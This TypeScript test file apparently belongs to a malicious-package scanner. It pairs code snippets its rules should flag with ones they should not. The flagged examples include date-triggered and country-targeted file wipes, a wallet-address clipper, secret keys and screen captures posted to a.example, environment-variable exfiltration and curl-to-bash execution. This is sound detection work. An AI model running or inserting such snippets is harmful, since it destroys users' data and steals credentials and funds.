import { testTable } from './table.ts';

testTable({
  'destroys-home': {
    hits: [
      ['where a server runs', "exec('rm -rf *', done)"],
      ['the same on Windows', "exec(win ? 'rd /s /q .' : '')"],
      [
        'from a day on',
        'if (Date.now() > Date.UTC(2027, 1, 1)) { for (const d of all) { fs.rmSync(d, { recursive: true }) } }',
      ],
      ['in one statement', "if (new Date() >= new Date('2026-12-24')) rimraf('node_modules/vue')"],
      ['the machine', "if (now > Date.parse('2027-01-01')) { exec('shutdown -h now') }"],
    ],
    misses: [
      ['in a folder of its own', "exec('cd dist && rm -rf *')"],
      ['help', "console.log('to clean up run rm -rf *')"],
      [
        'a warning, and a cache',
        'if (Date.now() > Date.UTC(2027, 1, 1)) warn(); fs.rmSync(cache, { recursive: true })',
      ],
      ['behind the block', 'if (now > Date.UTC(2027)) { warn() } fs.rmSync(cache, { recursive: true })'],
      ['a file', 'if (now > Date.UTC(2027)) { fs.rmSync(file) }'],
    ],
  },
  'geography-wipe': {
    hits: [
      [
        "node-ipc's",
        "get('https://api.ipgeolocation.io/ipgeo', (r) => { if (/russia|belarus/.test(r.country_name)) for (const f of fs.readdirSync(d)) fs.writeFileSync(f, '') })",
      ],
      ...['Russia', 'Belarus', 'Ukraine', 'Israel', 'Iran', 'Europe/Moscow'].map(
        (place): [string, string] => [
          place,
          `get('https://ipinfo.io', (r) => { if (r.includes('${place}')) rmSync(d, { recursive: true }) })`,
        ],
      ),
      ['a code', "get('https://ipinfo.io', (r) => { if (r.country_code === 'XX') rmSync(d) })"],
      ['a code in other letters', "fetch(u).then((r) => { if (r.countryCode === 'XX') rmSync(d) })"],
      ['a time zone', "if (f().resolvedOptions().timeZone === 'Asia/Tehran') rmSync(d)"],
      [
        'any country',
        "const c = JSON.parse(b).country_name; if (c.includes('atlantis')) for (const f of readdirSync(d)) writeFileSync(f, '')",
      ],
    ],
    misses: [
      ['a list of countries', "module.exports = ['Russia', 'Belarus']"],
      ['a place alone', "get('https://ipinfo.io', (r) => show(r.country_code === 'RU'))"],
      ['a report by country', "const c = r.country_name; if (c.includes('a')) writeFileSync(report, c)"],
      ['a column', "const columns = ['country_name']; for (const f of readdirSync(d)) writeFileSync(f, a)"],
    ],
  },
  'wallet-hook': {
    hits: [
      [
        'a readable clipper',
        'window.fetch = async (...a) => (await ask(...a)).text().replace(/0x[a-fA-F0-9]{40}/g, own)',
        'addresses in what a page sends or receives',
      ],
    ],
    misses: [
      ['tries again', 'window.fetch = async (...a) => again(a); const ok = /0x[a-f0-9]{40}/.test(b)'],
      ['shortens addresses', 'const short = (t) => t.replace(/0x[a-f0-9]{40}/g, cut); fetch(url)'],
    ],
  },
  'takes-input': {
    hits: [
      [
        'the screen',
        "const [s] = await desktopCapturer.getSources(o); fetch('https://a.example/s', { body: s })",
        'what the screen shows',
      ],
    ],
    misses: [['a picker', 'show(await desktopCapturer.getSources(o))']],
  },
  'sends-keys': {
    hits: [
      [
        "a wallet's",
        "fetch('https://a.example/w', { body: JSON.stringify({ s: Buffer.from(pair.secretKey).toString('hex') }) })",
        'secretKey',
      ],
    ],
    misses: [['kept', "save(Buffer.from(pair.secretKey)); fetch('https://a.example')"]],
  },
  'environment-dump': {
    hits: [
      [
        'name by name',
        'Object.entries(process.env).forEach(([k, v]) => https.get(url, { headers: { k: v } }))',
      ],
      ['of several services', 'const { NPM_TOKEN, GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY } = process.env;'],
    ],
    misses: [
      ['its own settings', 'Object.entries(process.env).forEach(([k, v]) => config.set(k, v))'],
      ['of one', 'const { NPM_TOKEN, NODE_AUTH_TOKEN } = process.env;'],
    ],
  },
  'pipe-to-shell': {
    hits: [
      [
        'fetched into a file, and run',
        "exec('curl -fsSL https://a.example/e.sh -o /tmp/.e && bash /tmp/.e')",
      ],
    ],
    misses: [['fetched into a file', "exec('curl -fsSL https://a.example/e.tgz -o e.tgz && tar xf e.tgz')"]],
  },
  'token-pattern': {
    hits: [["a chat's", 'text.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}|mfa\\.[\\w-]{84}/g)']],
    misses: [['a length', 'text.match(/^[\\w-]{24}$/)']],
  },
});
